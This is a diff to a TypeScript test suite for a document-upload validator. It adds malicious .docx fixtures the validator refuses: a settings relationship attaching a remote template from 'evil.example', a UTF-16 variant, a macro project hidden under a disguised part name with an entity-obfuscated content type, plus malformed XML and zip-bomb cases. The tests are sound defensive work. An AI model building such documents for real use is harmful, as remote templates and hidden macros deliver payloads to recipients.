@@ -18,6 +18,24 @@ function liar() {
   return bytes
 }
 
+/** A document whose settings attach a template that is somewhere else. */
+const template = (tag: string, encoding: 'utf8' | 'utf-16le' = 'utf8') => {
+  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
+  const xml = `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">${tag}Type="${type}" Target="https://evil.example/a.dotm" TargetMode="External"/></r:Relationships>`
+  return docx(['x'], { 'word/_rels/settings.xml.rels': new Uint8Array(Buffer.from(xml, encoding)) })
+}
+
+/** What people have: links to pages, and pictures that are somewhere else. */
+test('a document with links and pictures from elsewhere, and a template of its own, is taken', () =>
+  inWorld(async (world) => {
+    const ada = await world.arrive('Ada')
+    const at = await world.startProject(ada)
+    const kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+    const xml = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${kind}/hyperlink" Target="https://example.org" TargetMode="External"/><Relationship Id="b" Type="${kind}/image" Target="https://example.org/a.png" TargetMode="External"/><Relationship Id="c" Type="${kind}/oleObject" Target="embeddings/a.bin"/></Relationships>`
+    const bytes = docx(['x'], { 'word/_rels/document.xml.rels': strToU8(xml) })
+    await upload(ada, world.storage, at, { name: 'a.docx', bytes })
+  }))
+
 type World = Parameters<Parameters<typeof inWorld>[0]>[0]
 const inWorldWith = (bytes: Uint8Array, act: (world: World, bytes: Uint8Array) => Promise<void>) =>
   inWorld((world) => act(world, bytes))
@@ -42,6 +60,25 @@ test.each([
   ['an archive as a Word document', 'a.docx', zipSync({ 'a.txt': strToU8('a') }), 'content'],
   ['a spreadsheet as a Word document', 'a.docx', zipSync({ 'xl/workbook.xml': strToU8('a') }), 'content'],
   ['a document with macros', 'a.docx', docx(['x'], { 'word/vbaProject.bin': strToU8('x') }), 'macros'],
+  [
+    'a document with macros under another name',
+    'a.docx',
+    docx(['x'], {
+      '[Content_Types].xml': strToU8(
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/theme9.bin" ContentType="application/vnd.ms-office.vb&#x61;Project"/></Types>',
+      ),
+      'word/theme9.bin': strToU8('x'),
+    }),
+    'macros',
+  ],
+  ['a document with a template from elsewhere', 'a.docx', () => template("<r:Relationship Id='a' "), 'elsewhere'],
+  ['one that says so in UTF-16', 'a.docx', () => template('<r:Relationship Id="a" ', 'utf-16le'), 'elsewhere'],
+  [
+    'one whose description is no XML',
+    'a.docx',
+    docx(['x'], { 'word/_rels/settings.xml.rels': strToU8('<a') }),
+    'content',
+  ],
   ['a bomb', 'a.docx', bomb, 'bomb'],
   ['a bomb that lies', 'a.docx', liar, 'content'],
 ] as const)('%s is refused and removed', (_what, name, given, fault) =>
